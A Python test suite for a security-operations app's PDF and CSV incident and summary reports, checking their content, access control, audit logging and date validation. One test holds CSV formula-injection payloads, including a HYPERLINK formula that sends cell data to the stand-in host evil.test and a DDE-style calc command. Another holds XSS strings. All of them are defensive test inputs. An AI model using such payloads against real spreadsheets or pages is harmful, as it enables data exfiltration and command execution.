"""Reports: an incident's report and the SOC summary, as PDF and CSV, on pages and API.

PDF text is checked by decoding reportlab's own content streams (ASCII85 + Flate, both
in the standard library), so the test reads exactly what production sends.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import zlib
from datetime import UTC, datetime, timedelta

import pytest
from django.utils import timezone

from incidents.reports.csv import render_csv, safe_cell
from incidents.reports.data import Report, Section
from incidents.services import (
    action_request,
    incident_add_alerts,
    incident_comment,
    incident_create,
    incident_link_asset,
    incident_link_ioc,
    task_add,
)
from socapp.models import AuditEntry
from tests.conftest import client_for
from tests.factories import AssetFactory, CorrelationRuleFactory, IOCFactory

from .conftest import browser_for, raise_alert

pytestmark = pytest.mark.django_db

MARKUP = '"><img src=x onerror=alert(1)> <b>bold</b> & <font size=40>big'


# ---- helpers ---------------------------------------------------------------------------


def _unescape(match: re.Match) -> str:
    code = match.group(1)
    return chr(int(code, 8)) if code[0] in "01234567" else code


def pdf_text(content: bytes) -> str:
    """The text a PDF made by reportlab shows: its streams decoded, the strings of its
    text operators unescaped and joined by spaces (so a wrapped line reads whole)."""
    assert content.startswith(b"%PDF-")
    strings = []
    streams = rb"/Filter \[([^\]]*)\][^>]*>>\s*stream\r?\n(.*?)endstream"
    for head, data in re.findall(streams, content, re.S):
        if b"ASCII85Decode" in head:
            data = base64.a85decode(data.strip(), adobe=True)
        if b"FlateDecode" in head:
            data = zlib.decompress(data)
        for shown in re.findall(rb"\(((?:\\.|[^\\)])*)\)\s*Tj", data, re.S):
            strings.append(re.sub(r"\\([0-7]{1,3}|.)", _unescape, shown.decode("latin-1")))
    return " ".join(strings)


def shows(pdf: bytes, *expected: str) -> None:
    """Each text appears in the PDF (whitespace aside: a cell may wrap it over lines)."""
    text = re.sub(r"\s+", "", pdf_text(pdf))
    for item in expected:
        assert re.sub(r"\s+", "", item) in text, item


def csv_sections(content: bytes) -> dict[str, list[list[str]]]:
    """Section -> its rows (the header row first), as a spreadsheet would read them."""
    sections: dict[str, list[list[str]]] = {}
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        sections.setdefault(row[0], []).append(row[1:])
    return sections


def facts(content: bytes) -> dict[str, str]:
    return dict(csv_sections(content)["report"][1:])


def _case(analyst, team, title: str = "Ransomware on FS-1"):
    """An incident with something in every part of its report."""
    rule = CorrelationRuleFactory(name="Ransom note written")
    alert = raise_alert(team, "Ransom note on fs-1", "critical", host__name="fs-1")
    alert.rule = rule
    alert.save(update_fields=["rule"])
    incident = incident_create(
        actor=analyst, title=title, team=team, description="Files encrypted.", alerts=[alert]
    )
    incident_comment(incident=incident, actor=analyst, body="Isolated the share at 10:02.")
    incident_link_ioc(incident=incident, actor=analyst, ioc=IOCFactory(value="198.51.100.77"))
    incident_link_asset(incident=incident, actor=analyst, asset=AssetFactory(name="fs-1"))
    task_add(incident=incident, actor=analyst, title="Restore from backup")
    action_request(
        incident=incident,
        actor=analyst,
        action_type="manual",
        description="Blocked the C2 address at the edge",
    )
    return incident


def _attachment(response) -> str:
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;"), disposition
    return disposition.split("filename=")[1].strip('"')


# ---- the incident report ----------------------------------------------------------------


def test_incident_report_pdf_is_a_pdf_holding_the_case(analyst_a, team_a):
    incident = _case(analyst_a, team_a)
    response = browser_for(analyst_a).get(f"/incidents/{incident.number}/report.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert _attachment(response) == f"{incident.number}.pdf"
    page = browser_for(analyst_a).get(f"/incidents/{incident.number}/").content.decode()
    assert f'href="/incidents/{incident.number}/report.pdf"' in page
    assert 'href="/reports/">Reports</a>' in page
    shows(
        response.content,
        incident.number,
        "Ransomware on FS-1",
        "Files encrypted.",
        "TLP:AMBER",
        "Ransom note on fs-1",
        "Ransom note written",
        "Isolated the share at 10:02.",
        "198.51.100.77",
        "Restore from backup",
        "Blocked the C2 address at the edge",
        "fs-1",
    )


def test_incident_report_csv_holds_the_timeline_alerts_and_the_rest(analyst_a, team_a):
    incident = _case(analyst_a, team_a)
    response = browser_for(analyst_a).get(f"/incidents/{incident.number}/report.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert _attachment(response) == f"{incident.number}.csv"
    sections = csv_sections(response.content)
    assert facts(response.content)["Number"] == incident.number
    assert sections["timeline"][0] == ["at", "kind", "actor", "details"]
    kinds = [row[1] for row in sections["timeline"][1:]]
    assert kinds[0] == "Created" and "Comment" in kinds and "IOC linked" in kinds
    comment = next(row for row in sections["timeline"] if row[1] == "Comment")
    assert comment[2] == "analyst_a" and "Isolated the share at 10:02." in comment[3]
    (alert,) = sections["alerts"][1:]
    assert alert[1:5] == ["Critical", "Ransom note on fs-1", "Ransom note written", "In progress"]
    assert "host:fs-1" in alert[5]
    action = sections["actions"][1]
    assert action[1:7] == [
        "Manual step",
        "",
        "",
        "Succeeded",
        "Blocked the C2 address at the edge",
        "analyst_a",
    ]
    assert sections["iocs"][1][1] == "198.51.100.77"
    assert sections["assets"][1][0] == "fs-1"
    assert [row[1] for row in sections["tasks"][1:]] == ["Restore from backup"]


def test_csv_cells_that_would_be_formulas_are_neutralized(analyst_a, team_a):
    payloads = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1", "-2", "@SUM(A1:A9)"]
    payloads += ["\t=1+1", "\r=1+1"]
    alerts = [raise_alert(team_a, title, "low") for title in payloads]
    incident = incident_create(actor=analyst_a, title="-cmd|' /C calc'!A0", team=team_a)
    incident_add_alerts(incident=incident, alerts=alerts, actor=analyst_a)
    incident_comment(incident=incident, actor=analyst_a, body="=1+2")
    response = browser_for(analyst_a).get(f"/incidents/{incident.number}/report.csv")
    sections = csv_sections(response.content)
    titles = {row[2] for row in sections["alerts"][1:]}
    assert titles == {"'" + p for p in payloads}
    assert facts(response.content)["Title"] == "'-cmd|' /C calc'!A0"
    for rows in sections.values():
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_numbers_stay_numbers_and_text_is_quoted():
    assert safe_cell(-2) == -2 and safe_cell(-2.5) == -2.5 and safe_cell(0) == 0
    assert safe_cell("-2") == "'-2" and safe_cell("plain") == "plain" and safe_cell(None) == ""
    report = Report("t", "t", "TLP:CLEAR", facts=[("delta", -2)])
    report.sections.append(Section("numbers", "Numbers", ["n", "text"], [[-3, "-3"]]))
    lines = render_csv(report).decode("utf-8-sig").splitlines()
    assert '"report","delta",-2' in lines
    assert '"numbers",-3,"\'-3"' in lines


def test_markup_in_rule_titles_and_comments_prints_literally(analyst_a, team_a):
    incident = _case(analyst_a, team_a, title=f"Phish {MARKUP}")
    rule = CorrelationRuleFactory(name="<b>bold</b> <img src=x onerror=alert(1)>")
    alert = raise_alert(team_a, "<script>alert(1)</script>", "high")
    alert.rule = rule
    alert.save(update_fields=["rule"])
    incident_add_alerts(incident=incident, alerts=[alert], actor=analyst_a)
    incident_comment(incident=incident, actor=analyst_a, body=f"{MARKUP} &amp; \x07\x1b[31m")
    response = browser_for(analyst_a).get(f"/incidents/{incident.number}/report.pdf")
    assert response.status_code == 200
    shows(
        response.content,
        f"Phish {MARKUP}",  # the title
        "<script>alert(1)</script>",  # an alert's title
        "<b>bold</b> <img src=x onerror=alert(1)>",  # its rule
        f"body: {MARKUP} &amp; [31m",  # the comment, control characters dropped
    )


def test_non_latin_text_does_not_break_the_pdf(analyst_a, team_a):
    incident = incident_create(
        actor=analyst_a, title="Вход ✓ 日本 — ünïcode", team=team_a, description="x" * 20000
    )
    response = browser_for(analyst_a).get(f"/incidents/{incident.number}/report.pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


def test_another_teams_incident_report_is_a_404_on_pages_and_api(analyst_a, analyst_b, team_a):
    incident = _case(analyst_a, team_a)
    browser = browser_for(analyst_b)
    for fmt in ("pdf", "csv"):
        assert browser.get(f"/incidents/{incident.number}/report.{fmt}").status_code == 404
        url = f"/api/v1/reports/incident/{incident.pk}/?as={fmt}"
        assert client_for(analyst_b).get(url).status_code == 404
    assert browser.get("/incidents/INC-1999-0001/report.pdf").status_code == 404
    assert client_for(analyst_b).get("/api/v1/reports/incident/not-a-uuid/").status_code == 404
    assert not AuditEntry.objects.filter(action="report.incident_download").exists()


def test_without_a_role_or_a_login_there_is_no_report(analyst_a, team_a, nobody, api):
    incident = _case(analyst_a, team_a)
    assert browser_for(nobody).get(f"/incidents/{incident.number}/report.pdf").status_code == 403
    assert client_for(nobody).get(f"/api/v1/reports/incident/{incident.pk}/").status_code == 403
    assert client_for(nobody).get("/api/v1/reports/summary/").status_code == 403
    assert api.get("/api/v1/reports/summary/").status_code == 401
    from django.test import Client

    response = Client().get(f"/incidents/{incident.number}/report.pdf")
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_managers_and_auditors_read_every_teams_reports(analyst_a, team_a, manager, auditor):
    incident = _case(analyst_a, team_a)
    for user in (manager, auditor):
        response = client_for(user).get(f"/api/v1/reports/incident/{incident.pk}/?as=csv")
        assert response.status_code == 200, user
        assert facts(response.content)["Number"] == incident.number


def test_api_incident_report_formats_and_accept_header(analyst_a, team_a):
    incident = _case(analyst_a, team_a)
    client = client_for(analyst_a)
    url = f"/api/v1/reports/incident/{incident.pk}/"
    pdf = client.get(url, HTTP_ACCEPT="application/pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert _attachment(pdf) == f"{incident.number}.pdf"
    assert client.get(url, {"as": "csv"}, HTTP_ACCEPT="text/csv")["Content-Type"].startswith(
        "text/csv"
    )
    bad = client.get(url, {"as": "xlsx"}, HTTP_ACCEPT="application/pdf")
    assert bad.status_code == 400 and "as" in bad.json()


def test_report_downloads_are_audited(analyst_a, team_a):
    incident = _case(analyst_a, team_a)
    browser_for(analyst_a).get(f"/incidents/{incident.number}/report.pdf")
    client_for(analyst_a).get(f"/api/v1/reports/incident/{incident.pk}/?as=csv")
    browser_for(analyst_a).get("/reports/summary.csv?since=2026-01-01&until=2026-01-31")
    entries = AuditEntry.objects.filter(action__startswith="report.").order_by("seq")
    assert [(e.action, e.actor_name, e.changes["format"]) for e in entries] == [
        ("report.incident_download", "analyst_a", "pdf"),
        ("report.incident_download", "analyst_a", "csv"),
        ("report.summary_download", "analyst_a", "csv"),
    ]
    assert entries[0].object_id == str(incident.pk)
    assert entries[2].changes["since"] == "2026-01-01"


# ---- the SOC summary --------------------------------------------------------------------


def _summary(client, **params) -> dict[str, list[list[str]]]:
    response = client.get("/reports/summary.csv", params)
    assert response.status_code == 200, response.content
    return csv_sections(response.content)


def test_summary_counts_only_what_the_reader_may_see(analyst_a, team_a, team_b, manager):
    for _ in range(2):
        raise_alert(team_a, "A alert", "high")
    for _ in range(3):
        raise_alert(team_b, "B alert", "low")
    incident_create(actor=analyst_a, title="A case", team=team_a, priority="high")
    incident_create(actor=manager, title="B case", team=team_b, priority="low")
    own = _summary(browser_for(analyst_a))
    every = _summary(browser_for(manager))
    assert dict(own["report"][1:])["Alerts raised"] == "2"
    assert dict(every["report"][1:])["Alerts raised"] == "5"
    assert dict(own["report"][1:])["Incidents opened"] == "1"
    assert dict(every["report"][1:])["Incidents opened"] == "2"
    assert dict(own["alerts_by_severity"][1:]) == {
        "Critical": "0",
        "High": "2",
        "Medium": "0",
        "Low": "0",
        "Informational": "0",
    }
    assert dict(every["alerts_by_severity"][1:])["Low"] == "3"
    assert dict(own["top_rules"][1:]) == {"(no rule)": "2"}
    assert dict(own["incidents_by_priority"][1:])["P2 - High"] == "1"
    assert dict(own["incidents_by_priority"][1:])["P4 - Low"] == "0"


def test_summary_response_times(analyst_a, team_a):
    # Both finish before now, so the default period (the last seven days, up to today)
    # holds them at any time of day: resolved two hours after creation, not tomorrow.
    alert = raise_alert(team_a, "acked", "high")
    alert.triggered_at = timezone.now() - timedelta(hours=1)
    alert.acknowledged_at = alert.triggered_at + timedelta(minutes=10)
    alert.save(update_fields=["triggered_at", "acknowledged_at"])
    incident = incident_create(actor=analyst_a, title="done", team=team_a)
    incident.created_at = timezone.now() - timedelta(hours=3)
    incident.resolved_at = incident.created_at + timedelta(hours=2)
    incident.save(update_fields=["created_at", "resolved_at"])
    times = {row[0]: row[1:] for row in _summary(browser_for(analyst_a))["response_times"][1:]}
    assert times["MTTA"] == ["1", "600.0", "600.0"]
    assert times["MTTR"] == ["1", "7200.0", "7200.0"]
    pdf = browser_for(analyst_a).get("/reports/summary.pdf")
    shows(pdf.content, "MTTA 1 10 min 0 s 10 min 0 s", "MTTR 1 2 h 0 min 2 h 0 min")


def test_summary_period_default_filename_and_page(analyst_a):
    today = timezone.localdate()
    response = browser_for(analyst_a).get("/reports/summary.pdf")
    since = (today - timedelta(days=6)).isoformat()
    assert _attachment(response) == f"soc-summary-{since}-{today.isoformat()}.pdf"
    response = browser_for(analyst_a).get(
        "/reports/summary.csv", {"since": "2026-01-01", "until": "2026-01-08"}
    )
    assert _attachment(response) == "soc-summary-2026-01-01-2026-01-08.csv"
    page = browser_for(analyst_a).get("/reports/")
    assert page.status_code == 200
    assert (
        f"/reports/summary.pdf?since={since}&amp;until={today.isoformat()}" in page.content.decode()
    )


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"since": "yesterday"}, "Enter a valid date"),
        ({"since": "2026-02-30"}, "Enter a valid date"),
        ({"since": "2026-03-02", "until": "2026-03-01"}, "must not end before it starts"),
        ({"since": "2024-01-01", "until": "2025-06-01"}, "at most 366 days"),
        ({"since": "1900-01-01", "until": "1900-01-02"}, "must lie between"),
        ({"until": "9999-12-31"}, "must lie between"),
    ],
)
def test_bad_periods_are_a_400_with_the_reason(analyst_a, params, message):
    for path in ("/reports/summary.pdf", "/reports/summary.csv", "/reports/"):
        response = browser_for(analyst_a).get(path, params)
        assert response.status_code == 400
        assert message in response.content.decode()
    response = client_for(analyst_a).get("/api/v1/reports/summary/", params)
    assert response.status_code == 400 and message in str(response.json())
    assert not AuditEntry.objects.filter(action="report.summary_download").exists()


def test_summary_over_the_api(analyst_a, team_a):
    raise_alert(team_a, "A alert", "high")
    client = client_for(analyst_a)
    today = timezone.localdate().isoformat()
    response = client.get("/api/v1/reports/summary/", {"as": "csv", "until": today})
    assert response.status_code == 200
    assert dict(csv_sections(response.content)["report"][1:])["Alerts raised"] == "1"
    response = client.get("/api/v1/reports/summary/", HTTP_ACCEPT="application/pdf")
    assert response.status_code == 200
    shows(response.content, "Alerts raised 1")


@pytest.mark.django_db(transaction=True)
def test_summary_event_volumes_come_from_the_hourly_summary(analyst_a):
    from events.services import events_store
    from events.tasks import refresh_hourly_event_summary
    from tests.factories import SourceFactory, event_record

    at = datetime.now(tz=UTC) - timedelta(hours=3)
    fw, web = SourceFactory(name="fw"), SourceFactory(name="web")
    events_store(source=fw, records=[event_record(at + timedelta(seconds=s)) for s in range(4)])
    events_store(source=web, records=[event_record(at, event_type="http_request")])
    refresh_hourly_event_summary()
    sections = _summary(browser_for(analyst_a))
    assert dict(sections["report"][1:])["Events"] == "5"
    assert dict(sections["events_by_type"][1:]) == {
        "authentication_failure": "4",
        "http_request": "1",
    }
    assert dict(sections["events_by_source"][1:]) == {"fw": "4", "web": "1"}

    today = timezone.localdate()
    pdf = browser_for(analyst_a).get(
        "/reports/summary.pdf",
        {"since": (today - timedelta(days=30)).isoformat(), "until": today.isoformat()},
    )
    shows(pdf.content, "the hourly event summary keeps 7 days")
